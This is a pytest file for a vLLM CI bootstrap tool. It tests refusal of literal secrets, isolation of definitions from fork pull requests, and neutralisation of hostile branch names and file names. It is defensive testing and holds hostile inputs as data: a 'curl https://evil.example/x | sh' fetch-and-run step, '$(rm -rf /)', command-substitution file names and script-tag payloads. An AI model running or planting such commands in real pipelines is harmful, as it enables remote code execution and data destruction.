"""Security of the bootstrap: literal secrets, fork pull requests' definitions, and hostile
text from outside (branch names, commit messages, labels, file names)."""

from __future__ import annotations

import functools
import json
import os
import re
import shutil
import textwrap
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import Result, StandInAgent
from gitrepo import GitRepo, isolate_git

from vllmci.catalog.rules import KEY_PATTERN
from vllmci.emit.build import block_key
from vllmci.emit.secrets import SECRET_PATTERNS, is_reference, looks_secret
from vllmci.emit.validate import validate
from vllmci.emit.walk import Document
from vllmci.errors import USAGE_EXIT, UsageError, ValidationError
from vllmci.plan import fork as trust
from vllmci.plan.model import FORK_REASON
from vllmci.stages import Request, bundled_definitions, documents, load, load_all, make_plan

MINI = Path(__file__).parent / "fixtures" / "mini"
LORA_FILE = "vllm/lora/layers.py"
Run = Callable[..., Result]


@pytest.fixture(autouse=True)
def _isolated_git(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    isolate_git(monkeypatch, tmp_path / "home")


def problems(*docs: Document) -> list[str]:
    try:
        validate(list(docs))
    except ValidationError as error:
        return list(error.problems)
    return []


def step(key: str = "k", **extra: Any) -> dict[str, Any]:
    return {"commands": ["true"], "key": key, **extra}


def doc(*steps: Any, **header: Any) -> Document:
    return {**header, "steps": list(steps)}


def emitted(text: str) -> Iterator[dict[str, Any]]:
    decoder, at = json.JSONDecoder(), 0
    while at < len(text):
        document, at = decoder.raw_decode(text, at)
        while at < len(text) and text[at].isspace():
            at += 1
        for item in document["steps"]:
            yield item
            yield from item.get("steps", [])


# --- secrets: the names ------------------------------------------------------------------


@pytest.mark.parametrize("name", ["HF_TOKEN", "GITHUB_TOKEN", "AWS_SECRET", "DB_PASSWORD",
                                  "OPENAI_API_KEY", "SSH_PRIVATE_KEY", "AWS_ACCESS_KEY",
                                  "AWS_SECRET_KEY", "DB_CONNECTION_STRING", "hf_token",
                                  "BUILDKITE_ANALYTICS_TOKEN"])
def test_secret_looking_names(name: str) -> None:
    assert looks_secret(name)


@pytest.mark.parametrize("name", ["TOKEN", "HF_HOME", "TOKENIZERS_PARALLELISM", "SECRETARY",
                                  "API_KEYS", "VLLM_USAGE_SOURCE", "PASSWORDLESS"])
def test_ordinary_names(name: str) -> None:
    assert not looks_secret(name)


def test_the_patterns_are_the_agents() -> None:
    assert {"*_TOKEN", "*_SECRET", "*_PASSWORD", "*_API_KEY", "*_PRIVATE_KEY",
            "*_ACCESS_KEY"} <= set(SECRET_PATTERNS)


@pytest.mark.parametrize(("value", "reference"), [
    ("$HF_TOKEN", True), ("${HF_TOKEN}", True), ("$$HF_TOKEN", True), ("$${HF_TOKEN}", True),
    ("", True), ("hf_abc", False), ("$HF_TOKEN extra", False), ("x$HF_TOKEN", False),
    ("${HF_TOKEN:-hf_abc}", False), ("$(cat /secret)", False), ("$$$HF_TOKEN", False),
])
def test_references(value: str, reference: bool) -> None:
    assert is_reference(value) == reference


# --- secrets: refused in every place a value can be written ------------------------------


LITERAL = "hf_SuperSecretValue123"
PLACES = [
    ("pipeline-env", doc(step(), env={"HF_TOKEN": LITERAL}), "pipeline env", "HF_TOKEN"),
    ("step-env", doc(step("lora", env={"HF_TOKEN": LITERAL})), "step 'lora'", "HF_TOKEN"),
    ("step-env-in-group", doc({"group": "G", "steps": [step("x", env={"DB_PASSWORD": "p"})]}),
     "step 'x'", "DB_PASSWORD"),
    ("step-env-number", doc(step("n", env={"PIN_PASSWORD": 1234})), "step 'n'", "PIN_PASSWORD"),
    ("docker-environment",
     doc(step("d", plugins=[{"docker#v5.2.0": {"image": "i", "environment": [
         "VLLM_USAGE_SOURCE=ci-test", f"HF_TOKEN={LITERAL}"]}}])),
     "step 'd' (plugin docker#v5.2.0)", "HF_TOKEN"),
    ("kubernetes-pod-spec",
     doc(step("k", plugins=[{"kubernetes": {"podSpec": {"containers": [{"image": "i", "env": [
         {"name": "HF_HOME", "value": "/cache"}, {"name": "HF_TOKEN", "value": LITERAL}]}]}}}])),
     "step 'k' (plugin kubernetes)", "HF_TOKEN"),
    ("kubernetes-patch",
     doc(step("p", plugins=[{"kubernetes": {"podSpecPatch": {"initContainers": [{"env": [
         {"name": "OPENAI_API_KEY", "value": "sk-1"}]}]}}}])),
     "step 'p' (plugin kubernetes)", "OPENAI_API_KEY"),
    ("trigger-build-env", doc({"trigger": "other", "key": "t",
                               "build": {"env": {"GH_TOKEN": "ghp_1"}}}), "step 't'", "GH_TOKEN"),
]


@pytest.mark.parametrize(("document", "where", "variable"), [c[1:] for c in PLACES],
                         ids=[c[0] for c in PLACES])
def test_a_literal_secret_is_refused_naming_step_and_variable(
        document: Document, where: str, variable: str) -> None:
    found = [p for p in problems(document) if "literal value" in p]
    assert len(found) == 1, problems(document)
    assert where in found[0] and variable in found[0]
    assert LITERAL not in found[0], "the error must not leak the secret"


ALLOWED = [
    ("references", doc(step(env={"HF_TOKEN": "$$HF_TOKEN", "GH_TOKEN": "$${GH_TOKEN}"}),
                       env={"CODECOV_TOKEN": "$$CODECOV_TOKEN", "EMPTY_TOKEN": ""})),
    ("docker-pass-through", doc(step(plugins=[{"docker#v5.2.0": {"image": "i", "environment": [
        "HF_TOKEN", "CODECOV_TOKEN", "HF_TOKEN_PATH=/x", "HF_HOME=/x",
        "HF_TOKEN=$$HF_TOKEN"]}}]))),
    ("kubernetes-secret-ref", doc(step(plugins=[{"kubernetes": {"podSpec": {"containers": [{
        "env": [{"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "s",
                                                                    "key": "token"}}}]}]}}}]))),
    ("ordinary-literals", doc(step(env={"HF_HOME": "/cache", "TOKENIZERS_PARALLELISM": "0"}))),
    ("runtime-reads", doc(step(commands=["huggingface-cli login --token $$HF_TOKEN"]))),
]


@pytest.mark.parametrize("document", [c[1] for c in ALLOWED], ids=[c[0] for c in ALLOWED])
def test_passing_a_secret_through_is_fine(document: Document) -> None:
    assert problems(document) == []


@pytest.mark.parametrize("text", ["echo $HF_TOKEN", "echo ${HF_TOKEN}", "x $$$DB_PASSWORD",
                                  "${HF_TOKEN:-none}"])
def test_upload_time_interpolation_of_a_secret_is_refused(text: str) -> None:
    found = problems(doc(step("s", commands=[text])))
    assert len(found) == 1
    assert "at steps/0/commands/0" in found[0] and "copying a secret into the pipeline" in found[0]


HARDWARE = """
from vllmci.define import Device, Inventory
from vllmci.define import Docker, Kubernetes

def pod(image, gpus):
    return {{"containers": [{{"image": image, "env": {k8s_env}}}]}}

INVENTORY = Inventory(devices=[
    Device("l4", "gpu_queue", runner=Docker(environment={environment})),
    Device("k8s", "k8s_queue", runner=Kubernetes(pod_spec=pod)),
], default="l4")
"""
AREA = """
from vllmci.define import Group, Step
G = Group(name="G", steps=[
    Step(key="lora", label="LoRA", paths=["vllm/lora"], env={env}, commands=["pytest lora"]),
    Step(key="pod", label="Pod", device="k8s", paths=["vllm/pod"], commands=["pytest pod"]),
])
"""


def definitions(root: Path, env: str = "{}", environment: str = "()",
                k8s_env: str = "[]") -> Path:
    root.mkdir(parents=True, exist_ok=True)
    (root / "hardware.py").write_text(textwrap.dedent(HARDWARE.format(
        environment=environment, k8s_env=k8s_env)))
    (root / "area.py").write_text(textwrap.dedent(AREA.format(env=env)))
    return root


DEFINED = [
    ("step-env", {"env": '{"HF_TOKEN": "hf_SuperSecretValue123"}'}, "step 'lora'"),
    ("docker-environment", {"environment": '("HF_TOKEN=hf_SuperSecretValue123",)'},
     "step 'lora' (plugin docker#v5.2.0)"),
    ("kubernetes-env", {"k8s_env": '[{"name": "HF_TOKEN", "value": "hf_SuperSecretValue123"}]'},
     "step 'pod' (plugin kubernetes)"),
]


@pytest.mark.parametrize(("fields", "where"), [c[1:] for c in DEFINED],
                         ids=[c[0] for c in DEFINED])
@pytest.mark.parametrize("command", [("upload",), ("plan", "--format", "buildkite")],
                         ids=["upload", "plan"])
def test_a_literal_secret_in_a_definition_is_exit_2_and_never_uploaded(
        run_cli: Run, stand_in_agent: StandInAgent, tmp_path: Path, command: tuple[str, ...],
        fields: dict[str, str], where: str) -> None:
    defs = definitions(tmp_path / "defs", **fields)
    result = run_cli(*command, "--files", "vllm/lora/x.py", "--pipelines", str(defs))
    assert result.code == USAGE_EXIT
    assert where in result.err and "HF_TOKEN has a literal value" in result.err
    assert "hf_SuperSecretValue123" not in result.err + result.out
    assert "Traceback" not in result.err
    assert stand_in_agent.calls() == []


def test_a_secret_reference_in_a_definition_is_passed_through(run_cli: Run,
                                                              tmp_path: Path) -> None:
    defs = definitions(tmp_path / "defs", env='{"HF_TOKEN": "$HF_TOKEN"}',
                       environment='("HF_TOKEN", "CODECOV_TOKEN")')
    result = run_cli("plan", "--files", "vllm/lora/x.py", "--pipelines", str(defs),
                     "--format", "buildkite")
    assert result.code == 0, result.err
    (lora,) = [s for s in emitted(result.out) if s.get("key") == "lora"]
    assert lora["env"]["HF_TOKEN"] == "$$HF_TOKEN"
    assert "HF_TOKEN" in lora["plugins"][0]["docker#v5.2.0"]["environment"]


@pytest.mark.parametrize("env", [
    {"BUILDKITE_PULL_REQUEST": "1", "RUN_ALL": "1", "BUILDKITE_BRANCH": "feature"},
    {"BUILDKITE_BRANCH": "main", "NIGHTLY": "1"},
], ids=["pr-run-all", "main-nightly"])
def test_vllms_pipelines_hold_no_literal_secret(env: dict[str, str]) -> None:
    for pipeline in load_all(bundled_definitions()).pipelines():
        request = Request(files=(LORA_FILE,), pipeline=pipeline)
        if pipeline == "release" and "BUILDKITE_PULL_REQUEST" in env:
            with pytest.raises(UsageError):  # never generated for a pull request
                make_plan(request, env=env)
            continue
        plan = make_plan(request, env=env)
        texts = documents(plan)  # validates, secrets included
        assert texts
        if pipeline == "test":
            steps = [s for text in texts for s in emitted(text)]
            assert any("HF_TOKEN" in json.dumps(s) for s in steps), "passed through"


# --- fork pull requests --------------------------------------------------------------------


UPSTREAM = "git@github.com:vllm-project/vllm.git"
FORK = "https://github.com/someone/vllm.git"
BASE_FILES = {LORA_FILE: "lora\n", "vllm/kernels/core/ops.py": "ops\n", "README.txt": "r\n"}


@pytest.fixture
def origin(tmp_path: Path) -> GitRepo:
    """The upstream repository, holding its CI definitions in `ci/`."""
    repo = GitRepo.init(tmp_path / "origin")
    shutil.copytree(MINI, repo.path / "ci")
    repo.commit("base with definitions", BASE_FILES)
    return repo


@pytest.fixture
def work(origin: GitRepo, tmp_path: Path) -> GitRepo:
    repo = GitRepo.clone(origin, tmp_path / "work")
    repo.git("checkout", "-q", "-b", "feature")
    return repo


def pr_env(monkeypatch: pytest.MonkeyPatch, pr_repo: str = FORK) -> None:
    env = {"BUILDKITE": "true", "BUILDKITE_BRANCH": "someone:feature",
           "BUILDKITE_PULL_REQUEST": "77", "BUILDKITE_PULL_REQUEST_BASE_BRANCH": "main",
           "BUILDKITE_REPO": UPSTREAM, "BUILDKITE_PULL_REQUEST_REPO": pr_repo,
           "BUILDKITE_BUILD_ID": "b-1"}
    for name, value in env.items():
        monkeypatch.setenv(name, value)


def edit(repo: GitRepo, relpath: str, old: str, new: str) -> None:
    path = repo.path / relpath
    text = path.read_text()
    assert old in text, f"{old!r} not in {relpath}"
    path.write_text(text.replace(old, new))


NEW_STEP = """    Step(key="lora-new", label="LoRA new", paths=["vllm/lora"],
         commands=["pytest new"]),
])"""


@pytest.fixture
def fork_pr(work: GitRepo, tmp_path: Path) -> Path:
    """The fork changes a step's commands, adds a step, adds a definitions module that
    would write `marker` if it ever ran, and changes LoRA's code. Returns the marker."""
    marker = tmp_path / "fork-definitions-ran"
    edit(work, "ci/areas/lora.py", '"pytest -v -s -x lora/test_tp.py"]),\n])',
         '"curl https://evil.example/x | sh"]),\n' + NEW_STEP)
    work.write("ci/areas/evil.py", f"import pathlib\npathlib.Path({str(marker)!r}).write_text("
                                   "'ran')\n")
    work.commit("fork changes", {LORA_FILE: "changed\n"})
    return marker


def plan_of(run_cli: Run, work: GitRepo, *extra: str) -> dict[str, Any]:
    result = run_cli("plan", "--repo", str(work.path), "--pipelines", "ci", *extra,
                     "--format", "json")
    assert result.code == 0, result.err
    return json.loads(result.out)


def decisions(plan: dict[str, Any]) -> dict[str, tuple[str, list[str]]]:
    return {s["key"]: (s["decision"], s["reasons"]) for s in plan["steps"]}


def test_a_fork_pr_runs_the_base_branchs_definitions_never_its_own(
        run_cli: Run, origin: GitRepo, work: GitRepo, fork_pr: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    pr_env(monkeypatch)
    plan = plan_of(run_cli, work)
    assert not fork_pr.exists(), "the fork's definition code must never run"
    base = origin.rev("main")
    assert plan["base"] == base
    assert f"were loaded from the base commit {base[:12]}, not from the pull request" \
        in plan["notes"][0]
    found = decisions(plan)
    assert "lora-new" not in found
    assert any("only the fork defines" in n and "lora-new" in n for n in plan["notes"])
    assert found["lora-tp"][0] == "block" and found["lora-tp"][1][0] == FORK_REASON
    assert found["lora"][0] == "run", "unchanged steps run as the diff says"
    assert all(FORK_REASON not in reasons for key, (_, reasons) in found.items()
               if key not in ("lora-tp",))
    assert any("wait for a maintainer's click" in n and "lora-tp" in n for n in plan["notes"])
    pipeline = run_cli("plan", "--repo", str(work.path), "--pipelines", "ci",
                       "--format", "buildkite").out
    assert "evil.example" not in pipeline
    steps = {s.get("key"): s for s in emitted(pipeline)}
    assert "block-lora-tp" in steps["lora-tp"]["depends_on"]


def test_a_fork_pr_changing_a_steps_commands_and_mirror_blocks_both(
        run_cli: Run, work: GitRepo, monkeypatch: pytest.MonkeyPatch) -> None:
    edit(work, "ci/areas/lora.py", 'timeout=85', 'timeout=86')
    work.commit("fork changes the mirror", {LORA_FILE: "changed\n"})
    pr_env(monkeypatch)
    found = decisions(plan_of(run_cli, work))
    for key in ("lora", "amd-lora"):
        assert found[key][0] == "block" and found[key][1][0] == FORK_REASON, key
    assert found["lora-tp"][0] == "run"


def test_the_annotation_says_where_the_definitions_came_from(
        run_cli: Run, stand_in_agent: StandInAgent, work: GitRepo, fork_pr: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    pr_env(monkeypatch)
    result = run_cli("upload", "--repo", str(work.path), "--pipelines", "ci")
    assert result.code == 0, result.err
    (note,) = stand_in_agent.annotations()
    assert "loaded from the base commit" in note.stdin
    assert "lora-new" in note.stdin and "lora-tp" in note.stdin
    assert "loaded from the base commit" in result.out  # the job log
    assert not fork_pr.exists()
    assert "evil.example" not in "".join(stand_in_agent.uploads())


@pytest.mark.parametrize("same", [UPSTREAM, "https://github.com/vllm-project/vllm",
                                  "ssh://git@github.com/vllm-project/vllm.git"])
def test_a_pr_from_the_same_repository_uses_its_own_definitions(
        run_cli: Run, work: GitRepo, fork_pr: Path, monkeypatch: pytest.MonkeyPatch,
        same: str) -> None:
    pr_env(monkeypatch, pr_repo=same)
    plan = plan_of(run_cli, work)
    assert fork_pr.exists()
    assert "lora-new" in decisions(plan)
    assert not any("base commit" in n for n in plan["notes"])


def test_a_fork_pr_with_definitions_outside_the_checkout_is_trusted(
        run_cli: Run, work: GitRepo, monkeypatch: pytest.MonkeyPatch) -> None:
    work.commit("pr", {LORA_FILE: "changed\n"})
    pr_env(monkeypatch)
    result = run_cli("plan", "--repo", str(work.path), "--pipelines", str(MINI),
                     "--format", "json")
    assert result.code == 0, result.err
    assert json.loads(result.out)["notes"] == []


def test_a_fork_pr_with_a_broken_definition_file_blocks_its_steps(
        run_cli: Run, work: GitRepo, monkeypatch: pytest.MonkeyPatch) -> None:
    work.commit("broken", {"ci/areas/kernels.py": "KERNELS = Group(name='K', steps=[\n",
                           "vllm/kernels/core/ops.py": "x\n"})
    pr_env(monkeypatch)
    found = decisions(plan_of(run_cli, work))
    for key in ("kernels-core", "kernels-helper", "kernels-manual", "cpu-kernels"):
        assert found[key][1][0] == FORK_REASON, key
        assert found[key][0] == "block"
    assert found["lora"][0] == "block" and FORK_REASON not in found["lora"][1]


def test_a_fork_pr_changing_shared_definitions_only_says_they_are_not_used(
        run_cli: Run, work: GitRepo, monkeypatch: pytest.MonkeyPatch) -> None:
    edit(work, "ci/hardware.py", '"cpu_queue"', '"my_own_queue"')
    edit(work, "ci/areas/lora.py", "from vllmci.define", "# a comment only\nfrom vllmci.define")
    work.commit("shared", {LORA_FILE: "changed\n"})
    pr_env(monkeypatch)
    plan = plan_of(run_cli, work)
    assert any("shared definition file(s) (hardware.py)" in n for n in plan["notes"])
    assert not any(FORK_REASON in s["reasons"] for s in plan["steps"])
    assert "my_own_queue" not in json.dumps(plan)


def test_a_fork_pr_cannot_make_the_bootstrap_read_a_device(
        run_cli: Run, work: GitRepo, monkeypatch: pytest.MonkeyPatch) -> None:
    os.symlink("/dev/zero", work.path / "ci" / "areas" / "zero.py")
    os.symlink("/dev/urandom", work.path / "ci" / "areas" / "lora.py.tmp.py")
    work.commit("links", {LORA_FILE: "changed\n"})
    pr_env(monkeypatch)
    started = time.monotonic()
    plan = plan_of(run_cli, work)
    assert time.monotonic() - started < 30
    assert any("zero.py" in n for n in plan["notes"])


def test_a_fork_pr_needs_the_definitions_on_the_base_branch(
        run_cli: Run, stand_in_agent: StandInAgent, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    upstream = GitRepo.init(tmp_path / "upstream")
    upstream.commit("no definitions yet", BASE_FILES)
    clone = GitRepo.clone(upstream, tmp_path / "clone")
    clone.git("checkout", "-q", "-b", "feature")
    shutil.copytree(MINI, clone.path / "ci")
    clone.commit("the fork brings its own CI")
    pr_env(monkeypatch)
    result = run_cli("upload", "--repo", str(clone.path), "--pipelines", "ci")
    assert result.code == USAGE_EXIT
    assert "ci/ does not exist at the base commit" in result.err
    assert "nothing was uploaded" in result.err and "Traceback" not in result.err
    assert stand_in_agent.calls() == []


def test_a_fork_pr_with_listed_files_reads_the_base_branch(
        run_cli: Run, origin: GitRepo, work: GitRepo, fork_pr: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    pr_env(monkeypatch)
    plan = plan_of(run_cli, work, "--files", LORA_FILE)
    assert not fork_pr.exists()
    assert origin.rev("main")[:12] in plan["notes"][0]
    work.git("update-ref", "-d", "refs/remotes/origin/main")
    result = run_cli("plan", "--repo", str(work.path), "--pipelines", "ci",
                     "--files", LORA_FILE)
    assert result.code == USAGE_EXIT
    assert "the base branch's cannot be read" in result.err
    assert not fork_pr.exists()


def test_fork_changes_ignores_formatting_and_sees_each_step(tmp_path: Path) -> None:
    base, head = tmp_path / "base", tmp_path / "head"
    for root in (base, head):
        root.mkdir()
    source = ('from vllmci.define import Group, Step\n'
              'G = Group(name="G", steps=[Step(key="a", label="A", commands=["x"]),\n'
              '                           Step(key="b", label="B", commands=["y"])])\n')
    (base / "g.py").write_text(source)
    (head / "g.py").write_text("# reformatted\n" + source.replace(", ", ",  "))
    assert trust.fork_changes(base, head, {}) == trust.ForkChanges()
    (head / "g.py").write_text(source.replace('"y"', '"y --changed"'))
    assert trust.fork_changes(base, head, {}).keys == {"b"}
    (head / "g.py").write_text(source.replace('name="G"', 'name="H"'))
    assert trust.fork_changes(base, head, {}).keys == {"a", "b"}
    (head / "g.py").unlink()
    assert trust.fork_changes(base, head, {}).keys == {"a", "b"}


# --- hostile text from outside -------------------------------------------------------------


HOSTILE = ["$(rm -rf /)", "${HOME}", "$HOME", "`id`", "a'b\"c", "line\nbreak", "tab\there",
           "üñíçødé-🚀-分支", "x" * 10_000, "$$", "${#HOME}", "${HOME:?boom}", "back\\slash",
           "--help", "-rf", "| pipe |", "<script>alert(1)</script>", "%N", "feature/a:b"]
_AGENT_VARIABLE = re.compile(r"\$\$|\$\{([A-Za-z_][A-Za-z0-9_]*)\}|\$([A-Za-z_][A-Za-z0-9_]*)")


def interpolate(text: str, env: dict[str, str]) -> str:
    """What the agent makes of a string at upload time (the forms it accepts)."""
    return _AGENT_VARIABLE.sub(
        lambda m: "$" if m.group(0) == "$$" else env.get(m.group(1) or m.group(2), ""), text)


@functools.cache
def _neutral() -> tuple[str, ...]:
    env = {"BUILDKITE_PULL_REQUEST": "5", "BUILDKITE_BRANCH": "neutral"}
    return tuple(documents(make_plan(Request(files=(LORA_FILE,)), env=env)))


def _without_branch(texts: list[str]) -> list[dict[str, Any]]:
    parsed = [json.loads(t) for t in texts]
    for document in parsed:
        document.get("env", {}).pop("BRANCH", None)
    return parsed


@pytest.mark.parametrize("text", HOSTILE, ids=[repr(h)[:24] for h in HOSTILE])
def test_a_hostile_branch_name_reaches_the_job_verbatim_and_nowhere_else(text: str) -> None:
    outside = {"BUILDKITE_PULL_REQUEST": "5", "BUILDKITE_MESSAGE": f"msg {text}",
               "BUILDKITE_PULL_REQUEST_LABELS": text, "BUILDKITE_TAG": text}
    request = Request(files=(LORA_FILE,))
    texts = documents(make_plan(request, env={**outside, "BUILDKITE_BRANCH": text}))
    assert interpolate(json.loads(texts[0])["env"]["BRANCH"], {"HOME": "/root"}) == text
    keys = [s["key"] for t in texts for s in emitted(t) if "key" in s]
    assert all(KEY_PATTERN.match(k) for k in keys)
    catalog_keys = {k for e in load(Request()).entries for k in (e.key, block_key(e))}
    assert set(keys) <= catalog_keys, "keys only from definitions"
    assert _without_branch(texts) == _without_branch(list(_neutral())), \
        "outside text goes nowhere else"


def test_a_branch_name_naming_a_build_variable_is_not_filled_in() -> None:
    text = "x${BUILDKITE_COMMIT}"
    texts = documents(make_plan(Request(files=(LORA_FILE,)), env={"BUILDKITE_BRANCH": text}))
    branch = json.loads(texts[0])["env"]["BRANCH"]
    assert interpolate(branch, {"BUILDKITE_COMMIT": "0" * 40}) == text


HOSTILE_FILES = ["vllm/lora/!pipe|name.py", "vllm/lora/!new\nline<b>.py",  # listed first
                 "vllm/lora/$(touch pwned).py", "vllm/lora/${HOME}.py", "vllm/lora/`id`.py",
                 "vllm/lora/quote\"s and 's.py", "vllm/lora/pipe|name.py",
                 "vllm/lora/<script>alert(1)<\\script>.py", "vllm/lora/ünï 🚀.py",
                 "vllm/lora/-rf", "vllm/lora/--help", "vllm/lora/back\\slash|.py",
                 "vllm/lora/star*.py", "vllm/lora/new\nline.py"]


def table_rows(body: str) -> list[str]:
    return [line for line in body.splitlines() if line.startswith("| ")]


def unescaped_pipes(line: str) -> int:
    count, escaped = 0, False
    for char in line:
        if escaped:
            escaped = False
        elif char == "\\":
            escaped = True
        elif char == "|":
            count += 1
    return count


def test_hostile_file_names_stay_data_in_the_plan_the_pipeline_and_the_annotation(
        run_cli: Run, stand_in_agent: StandInAgent, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    upstream = GitRepo.init(tmp_path / "upstream")
    upstream.commit("base", BASE_FILES)
    clone = GitRepo.clone(upstream, tmp_path / "clone")
    clone.git("checkout", "-q", "-b", "feature")
    clone.commit("hostile names", {name: "x\n" for name in HOSTILE_FILES})
    pr_env(monkeypatch, pr_repo=UPSTREAM)
    argv = ("--repo", str(clone.path), "--pipelines", str(MINI))
    plan = json.loads(run_cli("plan", *argv, "--format", "json").out)
    assert plan["changed_files"] == sorted(HOSTILE_FILES)
    pipeline = run_cli("plan", *argv, "--format", "buildkite").out
    for name in HOSTILE_FILES:
        assert name.rsplit("/", 1)[1] not in pipeline
    result = run_cli("upload", *argv)
    assert result.code == 0, result.err
    assert not (clone.path / "pwned").exists() and not Path("pwned").exists()
    (note,) = stand_in_agent.annotations()
    rows = table_rows(note.stdin)
    assert rows and all(unescaped_pipes(row) == 4 for row in rows), rows
    assert "<script>" not in note.stdin and "<b>" not in note.stdin
    assert "!pipe\\|name.py ← vllm/lora" in note.stdin, "the first matches are shown"
    assert "!new line&lt;b&gt;.py" in note.stdin


def test_huge_and_flag_like_file_names_from_a_list(run_cli: Run) -> None:
    names = ["vllm/lora/" + "x" * 10_000, "vllm/lora/--files", "-rf", "--help",
             "vllm/lora/${BUILDKITE_COMMIT}"]
    result = run_cli("plan", "--files-from", "-", "--pipelines", str(MINI), "--format", "json",
                     stdin="\n".join(names) + "\n")
    assert result.code == 0, result.err
    plan = json.loads(result.out)
    assert plan["changed_files"] == sorted(names)
    assert decisions(plan)["lora"][0] == "run"
    assert decisions(plan)["kernels-core"][0] == "block"
